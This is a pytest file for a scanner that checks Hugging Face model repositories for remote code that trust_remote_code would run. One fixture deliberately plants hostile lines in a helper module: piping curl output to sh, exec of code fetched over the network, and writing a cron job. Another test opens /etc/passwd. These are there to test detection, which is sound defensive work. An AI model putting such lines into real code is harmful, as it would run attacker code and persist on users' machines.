import json

from conftest import codes

from hfcheck.formats.python_code import scan_source

MODELING = """\
import torch
from torch import nn
from .configuration_foo import FooConfig


class FooForCausalLM(nn.Module):
    config_class = FooConfig

    def __init__(self, config):
        super().__init__()
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size)
        with open("cache.txt", "w") as f:
            f.write("ok")
"""
CONFIGURATION = """\
from transformers import PretrainedConfig


class FooConfig(PretrainedConfig):
    model_type = "foo"
"""


def add_remote_code(repo, modeling=MODELING):
    config = json.loads((repo / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "configuration_foo.FooConfig", "AutoModelForCausalLM": "modeling_foo.FooForCausalLM"}
    (repo / "config.json").write_text(json.dumps(config, indent=2))
    (repo / "modeling_foo.py").write_text(modeling)
    (repo / "configuration_foo.py").write_text(CONFIGURATION)


def test_clean_repos_give_nothing(tiny_llama, minilm, run_rules):
    assert run_rules(tiny_llama, select=["SEC1"]) == []
    assert run_rules(minilm, select=["SEC1"]) == []


def test_deployment_scripts_are_not_remote_code(tiny_llama, run_rules):
    (tiny_llama / "serve.py").write_text("import subprocess\nsubprocess.run(['vllm', 'serve', '.'])\n")
    (tiny_llama / "scripts").mkdir()
    (tiny_llama / "scripts" / "train.py").write_text("import os\nos.system('torchrun train.py')\n")
    assert run_rules(tiny_llama, select=["SEC1"]) == []


def test_auto_map_warns_trust_remote_code(tiny_llama, run_rules):
    add_remote_code(tiny_llama)
    findings = run_rules(tiny_llama, select=["SEC1"])
    assert [(f.code, f.severity, f.path) for f in findings] == [("SEC100", "warning", "config.json")]
    assert "trust_remote_code=True will execute configuration_foo.py, modeling_foo.py" in findings[0].message
    assert findings[0].line is not None


def test_tokenizer_auto_map_and_other_repo_code(tiny_llama, run_rules):
    config = json.loads((tiny_llama / "tokenizer_config.json").read_text())
    config["auto_map"] = {"AutoTokenizer": ["other/repo--tokenization_bar.BarTokenizer", None]}
    (tiny_llama / "tokenizer_config.json").write_text(json.dumps(config))
    findings = run_rules(tiny_llama, select=["SEC100"])
    assert [f.path for f in findings] == ["tokenizer_config.json"]
    assert "other/repo (tokenization_bar.py)" in findings[0].message


def test_py_beside_auto_map_counts(tiny_llama, run_rules):
    add_remote_code(tiny_llama)
    (tiny_llama / "utils_foo.py").write_text("X = 1\n")
    messages = [f.message for f in run_rules(tiny_llama, select=["SEC100"])]
    assert any("utils_foo.py beside a config.json with auto_map" in m for m in messages)


def test_dangerous_code_in_auto_map_module_and_its_imports(tiny_llama, run_rules):
    evil = MODELING + "\nfrom .helpers_foo import setup\n"
    add_remote_code(tiny_llama, evil)
    (tiny_llama / "helpers_foo.py").write_text(
        "import os\nimport importlib\nfrom urllib.request import urlopen\n\n"
        "def setup(name):\n"
        "    os.system('curl http://x | sh')\n"
        "    exec(urlopen('http://x').read())\n"
        "    importlib.import_module(name)\n"
        "    open('/etc/cron.d/job', 'w').write('* * * * * evil')\n"
    )
    findings = run_rules(tiny_llama, select=["SEC101"])
    got = [(f.path, f.line, f.message.split(":")[0]) for f in findings]
    assert got == [
        ("helpers_foo.py", 6, "process spawning"),
        ("helpers_foo.py", 7, "eval/exec"),
        ("helpers_foo.py", 7, "network access"),
        ("helpers_foo.py", 8, "dynamic import"),
        ("helpers_foo.py", 9, "write outside the working directory"),
    ]
    assert all(f.severity == "error" for f in findings)
    assert any("helpers_foo.py imported by the auto_map modules" in f.message for f in run_rules(tiny_llama, select=["SEC100"]))


def test_safe_model_code_is_clean(tiny_llama, run_rules):
    add_remote_code(tiny_llama)
    assert codes(run_rules(tiny_llama, select=["SEC101", "SEC102"])) == []


def test_missing_and_broken_modules(tiny_llama, run_rules):
    add_remote_code(tiny_llama)
    (tiny_llama / "configuration_foo.py").unlink()
    (tiny_llama / "modeling_foo.py").write_text("def broken(:\n")
    messages = sorted(f.message for f in run_rules(tiny_llama, select=["SEC102"]))
    assert messages == [
        "configuration_foo.py is needed by config.json but is not in the repo",
        "modeling_foo.py does not parse: invalid syntax (line 1)",
    ]


def test_scanner_resolves_aliases_and_ignores_lookalikes():
    source = "import subprocess as sp\nimport re, torch\nsp.Popen(['x'])\nre.compile('a')\ntorch.compile(m)\nopen('out.txt', 'w')\nopen('/etc/passwd')\n"
    assert [(d.line, d.what) for d in scan_source(source).dangers] == [(3, "subprocess.Popen(...)")]
    assert scan_source("x" * 10 + "(((").error
